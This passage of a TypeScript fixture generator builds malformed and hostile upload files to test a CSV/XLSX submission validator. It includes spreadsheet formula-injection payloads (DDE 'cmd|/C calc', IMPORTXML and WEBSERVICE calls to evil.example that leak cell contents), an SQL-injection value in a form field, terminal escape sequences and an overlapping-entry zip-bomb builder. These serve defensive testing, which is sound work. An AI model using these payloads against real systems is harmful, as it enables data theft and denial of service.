      ),
      expect: { outcome: 'any' },
    });
    const r2 = rows.map((r, k) => (k === 5 ? { ...r, policy_no: `"${'Q'.repeat(3 * 1024 ** 2)}"` } : r));
    add({
      name: 'huge-field-3mb',
      family: 'huge-field',
      kind: 'callbacks',
      bytes: Buffer.from(toCsvString(r2, { columns: COLUMNS.callbacks })),
      expect: { outcome: 'unreadable', message: /longer than 1 MB/ },
    });
    // Many rows with a large bad value each: the report must not balloon memory.
    const r3 = rowsOf('complaints', 801, 40).map((r, k) => ({
      ...r,
      category: `X${k}`.padEnd(600_000, 'x'),
    }));
    add({
      name: 'huge-field-40-rows-600k-bad-values',
      family: 'huge-field',
      kind: 'complaints',
      bytes: Buffer.from(toCsvString(r3, { columns: COLUMNS.complaints })),
      expect: { outcome: 'invalid' },
    });
    const xlsxBig = await xlsxOf(
      'complaints',
      802,
      rowsOf('complaints', 802, 12).map((r, k) => ({ ...r, outcome: `O${k}`.padEnd(2 * 1024 ** 2, 'o') })),
    );
    add({
      name: 'huge-field-xlsx-2mb-cells',
      family: 'huge-field',
      kind: 'complaints',
      fileName: 'huge-cells.xlsx',
      bytes: xlsxBig,
      expect: { outcome: 'any' },
    });
    add({
      name: 'huge-field-header-cell',
      family: 'huge-field',
      kind: 'complaints',
      bytes: Buffer.from(
        csvLine([...COLUMNS.complaints, 'H'.repeat(500_000)]) +
          csvOf('complaints', 803).split('\r\n').slice(1).join('\r\n'),
      ),
      expect: { outcome: 'any' },
    });
  }
  add({
    name: 'huge-line-unquoted-4mb',
    family: 'huge-line',
    kind: 'callbacks',
    bytes: Buffer.from(csvOf('callbacks', 810, 5) + 'x,'.repeat(2 * 1024 ** 2) + '\r\n'),
    expect: { outcome: 'unreadable', message: /longer than 1 MB/ },
  });
  add({
    name: 'huge-line-no-newline-at-all',
    family: 'huge-line',
    kind: 'complaints',
    bytes: Buffer.from(
      csvOf('complaints', 811)
        .replace(/\r\n/g, ';')
        .padEnd(2 * 1024 ** 2, ';'),
    ),
    expect: { outcome: 'unreadable', message: /longer than 1 MB/ },
  });
  add({
    name: 'huge-line-chinese-1.5m-chars',
    family: 'huge-line',
    kind: 'complaints',
    bytes: Buffer.from(csvOf('complaints', 812, 3) + '投'.repeat(1_100_000) + '\r\n'),
    expect: { outcome: 'unreadable', message: /longer than 1 MB/ },
  });
  add({
    name: 'huge-line-just-under',
    family: 'huge-line',
    kind: 'callbacks',
    bytes: Buffer.from(csvOf('callbacks', 813, 3) + 'y'.repeat(1024 * 1024 - 200) + '\r\n'),
    expect: { outcome: 'invalid' },
  });

  // ---- quoting ----------------------------------------------------------------------------------------
  for (let i = 0; i < 30; i++) {
    const kind = pickDataKind();
    const lines = csvOf(kind, 900 + i).split('\r\n');
    const k = rng.int(1, lines.length - 2);
    let expect: Expectation = { outcome: 'any' };
    switch (i % 10) {
      case 0: // an opening quote never closed
        lines[k] = lines[k].replace(/,/, ',"');
        expect = { outcome: 'unreadable', message: /never closed|longer than/ };
        break;
      case 1: // text after a closing quote
        lines[k] = lines[k].replace(/,([^,]*),/, ',"$1"x,');
        expect = { outcome: 'unreadable', message: /after a closing quote/ };
        break;
      case 2: // a quote inside an unquoted field
        lines[k] = lines[k].replace(/,([^,]+),/, ',$1"5" screen,');
        break;
      case 3: // deep doubled quotes
        lines[k] = lines[k].replace(/,([^,]*),/, `,"${'"'.repeat(2 * rng.int(50, 5000))}",`);
        expect = { outcome: 'invalid' };
        break;
      case 4: // an odd run of quotes
        lines[k] = lines[k].replace(/,([^,]*),/, `,"${'"'.repeat(2 * rng.int(5, 500) + 1)},`);
        break;
      case 5: // a quoted field spanning many lines
        lines[k] = lines[k].replace(/,([^,]*),/, `,"a\r\nb\nc\rd${'\r\n'.repeat(rng.int(1, 300))}",`);
        expect = { outcome: 'invalid' };
        break;
      case 6: // every field quoted (legal)
        lines[k] = lines[k]
          .split(',')
          .map((c) => `"${c}"`)
          .join(',');
        expect = { outcome: 'valid' };
        break;
      case 7: // a stray quote at the very end of the file
        lines[lines.length - 1] = '"';
        expect = { outcome: 'unreadable', message: /never closed/ };
        break;
      case 8: // quoted header names
        lines[0] = lines[0]
          .split(',')
          .map((c) => `"${c}"`)
          .join(',');
        expect = { outcome: 'valid' };
        break;
      default: // quotes, commas and line breaks in a quoted field
        lines[k] = lines[k].replace(/,([^,]*),/, ',"a,""b"",\r\nc",');
        expect = { outcome: 'invalid' };
    }
    add({ name: `quoting-${i}`, family: 'quoting', kind, bytes: Buffer.from(lines.join('\r\n')), expect });
  }

  // ---- control characters and line ends ---------------------------------------------------------------
  // The first cell of a data row is a free-text number in complaints: the standard does not forbid control or
  // invisible characters in text, so such a value may be valid; what matters is a clear end and no crash.
  const controls: [string, (t: string) => string, Expectation][] = [
    ['nul-early', (t) => t.slice(0, 50) + '\u0000' + t.slice(50), { outcome: 'unreadable', message: /NUL/ }],
    [
      'nul-after-sniff-window',
      (t) => t.slice(0, 5000) + '\u0000' + t.slice(5000),
      { outcome: 'unreadable', message: /NUL/ },
    ],
    ['nul-at-end', (t) => t + '\u0000', { outcome: 'unreadable', message: /NUL/ }],
    ['cr-only', (t) => t.replace(/\r\n/g, '\r'), { outcome: 'valid' }],
    ['lf-only', (t) => t.replace(/\r\n/g, '\n'), { outcome: 'valid' }],
    [
      'mixed-line-ends',
      (t) =>
        t
          .split('\r\n')
          .map((l, k) => l + ['\r\n', '\n', '\r'][k % 3])
          .join(''),
      { outcome: 'valid' },
    ],
    ['lf-cr', (t) => t.replace(/\r\n/g, '\n\r'), { outcome: 'any' }],
    [
      'escape-sequences',
      (t) => t.replace(/\r\n([^,\r\n]*),/, '\r\n$1\u001b[2J\u001b]0;pwned\u0007,'),
      { outcome: 'any' },
    ],
    ['del-and-c1', (t) => t.replace(/\r\n([^,\r\n]*),/, '\r\n$1\u007f\u0085\u009b,'), { outcome: 'any' }],
    [
      'vertical-tab-form-feed',
      (t) => t.replace(/\r\n([^,\r\n]*),/, '\r\n\u000b$1\u000c,'),
      { outcome: 'any' },
    ],
    ['bidi-override', (t) => t.replace(/\r\n([^,\r\n]*),/, '\r\n\u202e$1\u202c,'), { outcome: 'any' }],
    ['zero-width', (t) => t.replace(/\r\n([^,\r\n]*),/, '\r\n$1\u200b\ufeff,'), { outcome: 'any' }],
    ['line-separator', (t) => t.replace(/\r\n([^,\r\n]*),/, '\r\n$1\u2028\u2029,'), { outcome: 'any' }],
    ['tab-separated', (t) => t.replace(/,/g, '\t'), { outcome: 'invalid' }],
    ['semicolon-separated', (t) => t.replace(/,/g, ';'), { outcome: 'invalid' }],
    ['trailing-whitespace', (t) => t.replace(/\r\n/g, '  \r\n'), { outcome: 'any' }],
    ['blank-lines-between', (t) => t.replace(/\r\n/g, '\r\n\r\n\r\n'), { outcome: 'valid' }],
    ['only-commas-rows', (t) => t + ','.repeat(25) + '\r\n' + ','.repeat(25) + '\r\n', { outcome: 'valid' }],
    ['ctrl-z-eof', (t) => t + '\u001a', { outcome: 'any' }],
    ['backspaces', (t) => t.replace(/\r\n([^,\r\n]*),/, '\r\n$1\b\b\b\b,'), { outcome: 'any' }],
    ['lone-surrogate-text', (t) => t.replace(/\r\n([^,\r\n]*),/, '\r\n$1\ud800,'), { outcome: 'any' }],
    ['emoji', (t) => t.replace(/\r\n([^,\r\n]*),/, '\r\n$1😀👍🏽,'), { outcome: 'any' }],
    ['full-width-comma', (t) => t.replace(/,/g, '，'), { outcome: 'invalid' }],
    ['cr-inside-quoted', (t) => t.replace(/\r\n([^,\r\n]*),/, '\r\n"$1\r",'), { outcome: 'any' }],
  ];
  for (const [name, mutate, expect] of controls) {
    for (const kind of name.startsWith('nul') || name.startsWith('cr-only') ? DATA_KINDS : [pickDataKind()]) {
      add({
        name: `ctrl-${name}${name.startsWith('nul') || name.startsWith('cr-only') ? `-${kind}` : ''}`,
        family: 'control-chars',
        kind,
        bytes: Buffer.from(mutate(csvOf(kind, 1000 + cases.length, kind === 'callbacks' ? 40 : 30)), 'utf8'),
        expect,
      });
    }
  }

  // ---- formula injection --------------------------------------------------------------------------------
  const payloads = [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '=HYPERLINK("http://evil.example/x","点击领取")',
    `=cmd|' /C calc'!A0`,
    '=DDE("cmd";"/C calc";"!A0")',
    '+cmd|/C notepad!A0',
    '-2+3+cmd|/C calc!A0',
    '@cmd|/C calc!A0',
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    '＝1+1',
    '=WEBSERVICE("http://evil.example")',
  ];
  for (let i = 0; i < payloads.length; i++) {
    for (const kind of DATA_KINDS) {
      const rows = rowsOf(kind, 1100 + i, 12);
      const cols = COLUMNS[kind];
      const col = cols[(i * 3 + (kind === 'callbacks' ? 1 : 0)) % cols.length];
      rows[rng.int(0, rows.length - 1)][col] = payloads[i];
      rows[rng.int(0, rows.length - 1)][cols[(i + 5) % cols.length]] = payloads[(i + 1) % payloads.length];
      add({
        name: `formula-${i}-${kind}`,
        family: 'formula',
        kind,
        bytes: Buffer.from(toCsvString(rows, { columns: cols })),
        // A formula-looking value in a free-text column is valid data; in a coded column it is an error.
        expect: { outcome: 'any' },
        formulas: true,
      });
    }
  }
  {
    // Formulas in the header, and real formula cells in an XLSX (cached results).
    add({
      name: 'formula-in-header',
      family: 'formula',
      kind: 'callbacks',
      bytes: Buffer.from(
        csvLine([...COLUMNS.callbacks, '=HYPERLINK("http://evil.example","x")', '@SUM(1)']) +
          csvOf('callbacks', 1130).split('\r\n').slice(1).join('\r\n'),
      ),
      expect: { outcome: 'invalid' },
      formulas: true,
    });
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('data');
    sheet.addRow([...COLUMNS.complaints]);
    for (const r of rowsOf('complaints', 1131, 6)) sheet.addRow(COLUMNS.complaints.map((c) => r[c]));
    sheet.getCell('B3').value = { formula: 'HYPERLINK("http://evil.example","hotline")', result: '=evil' };
    sheet.getCell('G4').value = { formula: 'CONCAT("=cmd|","x")', result: '=cmd|x' };
    sheet.getCell('A5').value = '@SUM(1)';
    add({
      name: 'formula-xlsx-cells',
      family: 'formula',
      kind: 'complaints',
      fileName: 'formula.xlsx',
      bytes: await fixedXlsx(book),
      expect: { outcome: 'invalid' },
      formulas: true,
    });
  }

  // ---- personal identifiers in every free-text column ----------------------------------------------
  let piiNo = 0;
  for (const kind of KINDS) {
    for (const col of COLUMNS[kind]) {
      for (const form of ['id', 'mobile'] as const) {
        if (kind === 'profile' && form === 'mobile' && col !== 'org_code') continue;
        const n = ++piiNo;
        const id = residentId(n);
        const phone = mobile(n);
        const value =
          form === 'id'
            ? FREE_TEXT[kind].includes(col)
              ? `客户身份证${id}`
              : id
            : n % 3 === 0
              ? `+86 ${phone.slice(0, 3)}-${phone.slice(3, 7)}-${phone.slice(7)}`
              : n % 3 === 1
                ? phone.replace(/\d/g, (d) => String.fromCharCode(0xff10 + Number(d)))
                : `联系电话${phone}`;
        const rows = rowsOf(kind, 1200 + n, kind === 'profile' ? 1 : 8);
        rows[rows.length - 1][col] = value;
        add({
          name: `pii-${kind}-${col}-${form}`,
          family: 'pii',
          kind,
          bytes: Buffer.from(toCsvString(rows, { columns: COLUMNS[kind] })),
          expect: { outcome: 'invalid' },
          pii: form === 'id' ? [id] : [phone],
        });
      }
    }
  }
  {
    const id = residentId(777);
    add({
      name: 'pii-in-header',
      family: 'pii',
      kind: 'complaints',
      bytes: Buffer.from(
        csvLine([...COLUMNS.complaints, id]) + csvOf('complaints', 1300).split('\r\n').slice(1).join('\r\n'),
      ),
      expect: { outcome: 'any' },
      pii: [id],
    });
    const xlsxPii = await xlsxOf(
      'callbacks',
      1301,
      rowsOf('callbacks', 1301, 5).map((r, k) =>
        k === 2 ? { ...r, receipt_ref: `${id} ${mobile(778)}` } : r,
      ),
    );
    add({
      name: 'pii-xlsx',
      family: 'pii',
      kind: 'callbacks',
      fileName: 'pii.xlsx',
      bytes: xlsxPii,
      expect: { outcome: 'invalid' },
      pii: [id, mobile(778)],
    });
  }

  // ---- the wrong kind ---------------------------------------------------------------------------------
  for (const actual of KINDS) {
    for (const declared of KINDS) {
      if (actual === declared) continue;
      for (const zh of [false, true]) {
        add({
          name: `wrong-kind-${actual}-as-${declared}${zh ? '-zh' : ''}`,
          family: 'wrong-kind',
          kind: declared,
          bytes: Buffer.from(zh ? zhCsv(actual, 1400) : csvOf(actual, 1401)),
          expect: { outcome: 'invalid' },
        });
      }
    }
  }

  // ---- header damage ----------------------------------------------------------------------------------
  for (let i = 0; i < 36; i++) {
    const kind = KINDS[i % 3];
    const cols = [...COLUMNS[kind]];
    const rows = rowsOf(kind, 1500 + i, kind === 'profile' ? 1 : 10);
    let header: string[] = [...cols];
    let order = [...cols];
    let expect: Expectation = { outcome: 'invalid' };
    switch (Math.floor(i / 3)) {
      case 0: // permuted columns, data permuted alike: valid
        order = shuffle(rng, [...cols]);
        header = [...order];
        expect = { outcome: 'valid' };
        break;
      case 1: // a column missing (an optional one may be left out)
        order = cols.filter((_, k) => k !== rng.int(0, cols.length - 1));
        header = [...order];
        expect = { outcome: 'any' };
        break;
      case 2: // a column twice
        order = [...cols, cols[rng.int(0, cols.length - 1)]];
        header = [...order];
        break;
      case 3: // unknown extra columns
        order = [...cols, 'remark', '备注'];
        header = [...order];
        expect = { outcome: 'any' };
        break;
      case 4: // empty header cells with data under them
        header = cols.map((c, k) => (k === 1 ? '' : c));
        break;
      case 5: // upper case and padded names
        header = cols.map((c) => ` ${c.toUpperCase()} `);
        expect = { outcome: 'any' };
        break;
      case 6: // Chinese and English names mixed
        header = cols.map((c, k) => (k % 2 === 0 ? (ZH_HEADERS[c] ?? c) : c));
        expect = { outcome: 'any' };
        break;
      case 7: // header shifted by one (a leading empty column)
        header = ['', ...cols];
        order = ['__blank', ...cols];
        expect = { outcome: 'any' };
        break;
      case 8: // no header: data from the first line
        header = cols.map((c) => rows[0][c] ?? '');
        break;
      case 9: // header row repeated in the data
        order = cols;
        rows.splice(1, 0, Object.fromEntries(cols.map((c) => [c, c])) as Row);
        break;
      case 10: // columns truncated mid-name
        header = cols.map((c) => c.slice(0, Math.max(1, c.length - 2)));
        break;
      default: // header only (callbacks/complaints: a warning; profile: an error)
        add({
          name: `header-only-${i}-${kind}`,
          family: 'header',
          kind,
          bytes: Buffer.from(csvLine(header.map((h) => h + (i % 2 ? '' : ' ')))),
          expect: kind === 'profile' ? { outcome: 'invalid' } : { outcome: 'any' },
        });
        continue;
    }
    const body = rows.map((r) => csvLine(order.map((c) => r[c] ?? ''))).join('');
    add({
      name: `header-${i}-${kind}`,
      family: 'header',
      kind,
      bytes: Buffer.from(csvLine(header) + body),
      expect,
    });
  }

  // ---- empty and near-empty ---------------------------------------------------------------------------
  const empties: [string, Kind, Buffer, Expectation][] = [
    ['zero-bytes-callbacks', 'callbacks', Buffer.alloc(0), { outcome: 'unreadable', message: /empty/ }],
    ['zero-bytes-complaints', 'complaints', Buffer.alloc(0), { outcome: 'unreadable', message: /empty/ }],
    ['zero-bytes-profile', 'profile', Buffer.alloc(0), { outcome: 'unreadable', message: /empty/ }],
    ['one-newline', 'callbacks', Buffer.from('\r\n'), { outcome: 'any' }],
    ['many-newlines', 'complaints', Buffer.from('\n'.repeat(5000)), { outcome: 'any' }],
    ['only-spaces', 'callbacks', Buffer.from(' '.repeat(100)), { outcome: 'invalid' }],
    ['only-commas', 'complaints', Buffer.from(',,,,,,,,\r\n'), { outcome: 'invalid' }],
    ['one-quote-pair', 'profile', Buffer.from('""'), { outcome: 'invalid' }],
    ['single-byte', 'callbacks', Buffer.from('a'), { outcome: 'invalid' }],
    ['tab-only', 'complaints', Buffer.from('\t'), { outcome: 'invalid' }],
  ];
  for (const [name, kind, bytes, expect] of empties)
    add({ name: `empty-${name}`, family: 'empty', kind, bytes, expect });

  // ---- binary garbage -----------------------------------------------------------------------------------
  const binaries: [string, Buffer, RegExp | undefined][] = [
    ['png', pngBytes(), /image/],
    ['jpeg', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46, 0x49, 0x46]), /image/],
    ['gif', Buffer.from('GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;', 'latin1'), undefined],
    [
      'pdf',
      Buffer.from('%PDF-1.4\n%\u00e2\u00e3\u00cf\u00d3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF', 'latin1'),
      /PDF/,
    ],
    [
      'elf',
      Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(56)]),
      /NUL|binary/,
    ],
    ['ole-xls', oleBytes(), /Excel 97/],
    ['7z', Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), /archive/],
    ['rar', Buffer.from('Rar!\u001a\u0007\u0000', 'latin1'), /archive/],
    ['bzip2', Buffer.from('BZh91AY&SY', 'latin1'), /archive/],
    ['tar', Buffer.concat([Buffer.from('data.csv'), Buffer.alloc(504)]), /NUL|binary/],
    ['wasm', Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]), /NUL|binary/],
    ['java-class', Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34]), /NUL|binary/],
    ['sqlite', Buffer.concat([Buffer.from('SQLite format 3\u0000'), Buffer.alloc(84)]), /NUL|binary/],
  ];
  for (const [name, bytes, message] of binaries)
    add({
      name: `binary-${name}`,
      family: 'binary',
      kind: pickKind(),
      fileName: `binary-${name}.csv`,
      bytes,
      expect: { outcome: 'unreadable', message },
    });
  for (let i = 0; i < 8; i++) {
    const r = Rng.derive(seed, 'random-bytes', i);
    const b = Buffer.alloc(r.int(16, 20_000));
    for (let k = 0; k < b.length; k++) b[k] = r.int(0, 255);
    add({
      name: `binary-random-${i}`,
      family: 'binary',
      kind: pickKind(),
      bytes: b,
      expect: { outcome: 'unreadable' },
    });
  }
  for (let i = 0; i < 4; i++) {
    // Random bytes without NUL and without a known signature: read as text, then refused by encoding.
    const r = Rng.derive(seed, 'random-text', i);
    const b = Buffer.alloc(r.int(100, 20_000));
    for (let k = 0; k < b.length; k++) b[k] = r.int(0x80, 0xff);
    add({
      name: `binary-high-bytes-${i}`,
      family: 'binary',
      kind: pickKind(),
      bytes: b,
      expect: { outcome: 'any' },
    });
  }

  // ---- extremely many columns -------------------------------------------------------------------------
  const wide = (n: number) => Array.from({ length: n }, (_, k) => `c${k}`);
  add({
    name: 'many-columns-50k-header',
    family: 'many-columns',
    kind: 'callbacks',
    bytes: Buffer.from(
      csvLine([...COLUMNS.callbacks, ...wide(50_000)]) +
        csvOf('callbacks', 1600).split('\r\n').slice(1).join('\r\n'),
    ),
    expect: { outcome: 'any' },
  });
  add({
    name: 'many-columns-200k-row',
    family: 'many-columns',
    kind: 'complaints',
    bytes: Buffer.from(csvOf('complaints', 1601) + ','.repeat(200_000) + 'x\r\n'),
    expect: { outcome: 'invalid' },
  });
  add({
    name: 'many-columns-every-row-wide',
    family: 'many-columns',
    kind: 'complaints',
    bytes: Buffer.from(
      csvOf('complaints', 1602)
        .split('\r\n')
        .map((l, k) => (k === 0 || l === '' ? l : l + ',v'.repeat(5000)))
        .join('\r\n'),
    ),
    expect: { outcome: 'invalid' },
  });
  add({
    name: 'many-columns-one-column',
    family: 'many-columns',
    kind: 'callbacks',
    bytes: Buffer.from(csvOf('callbacks', 1603).replace(/,/g, '')),
    expect: { outcome: 'invalid' },
  });
  {
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('wide');
    sheet.addRow([...COLUMNS.callbacks, ...wide(16_000 - COLUMNS.callbacks.length)]);
    sheet.addRow(wide(16_000).map((_, k) => k));
    add({
      name: 'many-columns-xlsx-16k',
      family: 'many-columns',
      kind: 'callbacks',
      fileName: 'wide.xlsx',
      bytes: await fixedXlsx(book),
      expect: { outcome: 'any' },
    });
  }

  // ---- larger than UPLOAD_MAX_BYTES (413) -------------------------------------------------------------
  {
    const head = Buffer.from(csvOf('callbacks', 1700));
    add({
      name: 'too-large-csv',
      family: 'too-large',
      kind: 'callbacks',
      bytes: Buffer.concat([head, Buffer.alloc(opts.uploadMaxBytes + 1 - head.length, 0x0a)]),
      expect: { outcome: '4xx', status: 413 },
    });
    add({
      name: 'too-large-by-far',
      family: 'too-large',
      kind: 'complaints',
      bytes: Buffer.alloc(opts.uploadMaxBytes + 3 * 1024 ** 2, 0x41),
      expect: { outcome: '4xx', status: 413 },
    });
  }

  // ---- malformed requests -----------------------------------------------------------------------------
  const small = bytesOf('callbacks', 1800);
  const req = (name: string, request: RequestShape, kind: Kind = 'callbacks', status = 400) =>
    add({
      name: `request-${name}`,
      family: 'request',
      kind,
      bytes: small,
      expect: { outcome: '4xx', status },
      request,
    });
  req('no-kind', { fields: [['period', period]] });
  req('no-period', { fields: [['kind', 'callbacks']] });
  req('bad-kind', {
    fields: [
      ['kind', 'claims'],
      ['period', period],
    ],
  });
  req('kind-injection', {
    fields: [
      ['kind', "callbacks'; DROP TABLE submission;--"],
      ['period', period],
    ],
  });
  req('bad-period', {
    fields: [
      ['kind', 'callbacks'],
      ['period', '2026H3'],
    ],
  });
  req('future-period', {
    fields: [
      ['kind', 'callbacks'],
      ['period', '2099H1'],
    ],
  });
  req('period-overlong', {
    fields: [
      ['kind', 'callbacks'],
      ['period', '2026H1'.repeat(100)],
    ],
  });
  req('extra-field', {
    fields: [
      ['kind', 'callbacks'],
      ['period', period],
      ['org_code', '91350000MA0FWBFX0H'],
    ],
  });
  req('no-file', { fileField: null });
  req('file-wrong-field', { fileField: 'upload' });
  req('two-files', { secondFile: true });
  req(
    'json-body',
    { raw: { contentType: 'application/json', body: Buffer.from('{"kind":"callbacks"}') } },
    'callbacks',
    400,
  );
  req('multipart-no-boundary', { raw: { contentType: 'multipart/form-data', body: small } });
  req('multipart-truncated', {
    raw: {
      contentType: 'multipart/form-data; boundary=XyZ',
      body: Buffer.from(
        `--XyZ\r\nContent-Disposition: form-data; name="kind"\r\n\r\ncallbacks\r\n--XyZ\r\nContent-Disposition: form-data; name="period"\r\n\r\n${period}\r\n--XyZ\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\ncallback_type,policy_no`,
      ),
    },
  });
  req('multipart-garbage', {
    raw: { contentType: 'multipart/form-data; boundary=abc', body: Buffer.from('\u0000\u0001garbage') },
  });
  req('text-plain', { raw: { contentType: 'text/plain', body: small } });

  return cases;
}

function shuffle<T>(rng: Rng, items: T[]): T[] {
  for (let i = items.length - 1; i > 0; i--) {
    const j = rng.int(0, i);
    [items[i], items[j]] = [items[j], items[i]];
  }
  return items;
}

// ---- small zip/xlsx helpers -------------------------------------------------------------------------------

/** An exceljs workbook as bytes that do not depend on the clock (fixed document dates, zip entry times 0). */
async function fixedXlsx(book: ExcelJS.Workbook): Promise<Buffer> {
  book.created = book.modified = new Date(Date.UTC(2026, 0, 1));
  return buildZip(unzip(Buffer.from(await book.xlsx.writeBuffer())));
}

function slug(s: string): string {
  return s
    .replace(/[^A-Za-z0-9]+/g, '-')
    .replace(/^-|-$/g, '')
    .toLowerCase();
}

/** The entries of a zip (central directory; deflate or stored). */
export function unzip(zip: Buffer): { name: string; data: Buffer }[] {
  const eocd = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  const count = zip.readUInt16LE(eocd + 10);
  let p = zip.readUInt32LE(eocd + 16);
  const out: { name: string; data: Buffer }[] = [];
  for (let k = 0; k < count; k++) {
    const method = zip.readUInt16LE(p + 10);
    const compressed = zip.readUInt32LE(p + 20);
    const nameLength = zip.readUInt16LE(p + 28);
    const extraLength = zip.readUInt16LE(p + 30);
    const commentLength = zip.readUInt16LE(p + 32);
    const offset = zip.readUInt32LE(p + 42);
    const name = zip.toString('utf8', p + 46, p + 46 + nameLength);
    const start = offset + 30 + zip.readUInt16LE(offset + 26) + zip.readUInt16LE(offset + 28);
    const raw = zip.subarray(start, start + compressed);
    out.push({ name, data: method === 0 ? Buffer.from(raw) : inflateRawSync(raw) });
    p += 46 + nameLength + extraLength + commentLength;
  }
  return out;
}

function localDataOffset(zip: Buffer, name: string): number {
  for (let p = 0; p + 30 < zip.length; ) {
    if (zip.readUInt32LE(p) !== 0x04034b50) break;
    const nameLength = zip.readUInt16LE(p + 26);
    const start = p + 30 + nameLength + zip.readUInt16LE(p + 28);
    if (zip.toString('utf8', p + 30, p + 30 + nameLength) === name) return start;
    p = start + zip.readUInt32LE(p + 18);
  }
  throw new Error(`no entry ${name}`);
}

function centralEntry(zip: Buffer, index: number): number {
  const eocd = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  let p = zip.readUInt32LE(eocd + 16);
  for (let k = 0; k < index; k++)
    p += 46 + zip.readUInt16LE(p + 28) + zip.readUInt16LE(p + 30) + zip.readUInt16LE(p + 32);
  return p;
}

function setCentralFlag(zip: Buffer, index: number, flag: number): Buffer {
  const out = Buffer.from(zip);
  const p = centralEntry(out, index);
  out.writeUInt16LE(out.readUInt16LE(p + 8) | flag, p + 8);
  return out;
}

function setCentralMethod(zip: Buffer, index: number, method: number): Buffer {
  const out = Buffer.from(zip);
  const p = centralEntry(out, index);
  out.writeUInt16LE(method, p + 10);
  return out;
}

/** Fifield's non-recursive zip bomb idea: many central entries pointing at one local entry. */
function overlappingZip(entries: { name: string; data: Buffer }[]): Buffer {
  const kernel = deflateRawSync(Buffer.alloc(8 * 1024 ** 2, 0x20));
  const name = Buffer.from('xl/worksheets/sheet1.xml');
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(crc32(Buffer.alloc(8 * 1024 ** 2, 0x20)), 14);
  local.writeUInt32LE(kernel.length, 18);
  local.writeUInt32LE(8 * 1024 ** 2, 22);
  local.writeUInt16LE(name.length, 26);
  const body = Buffer.concat([local, name, kernel]);
  const centrals: Buffer[] = [];
  const names = [...entries.map((e) => e.name).filter((n) => n !== name.toString()), name.toString()];
  for (const n of names.slice(0, 40)) {
    const nb = Buffer.from(n);
    const c = Buffer.alloc(46);
    c.writeUInt32LE(0x02014b50, 0);
    c.writeUInt16LE(20, 4);
    c.writeUInt16LE(20, 6);
    c.writeUInt16LE(8, 10);
    c.writeUInt32LE(local.readUInt32LE(14), 16);
    c.writeUInt32LE(kernel.length, 20);
    c.writeUInt32LE(8 * 1024 ** 2, 24);
    c.writeUInt16LE(nb.length, 28);
    c.writeUInt32LE(0, 42);
    centrals.push(c, nb);
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(centrals.length / 2, 8);
  end.writeUInt16LE(centrals.length / 2, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(body.length, 16);
  return Buffer.concat([body, cd, end]);
}

function emptySheetXml(): string {
  return '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>';
}

function pngBytes(): Buffer {
  return Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52]);
}
function oleBytes(): Buffer {
  return Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)]);
}
function emptyZip(): Buffer {
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  return end;
}
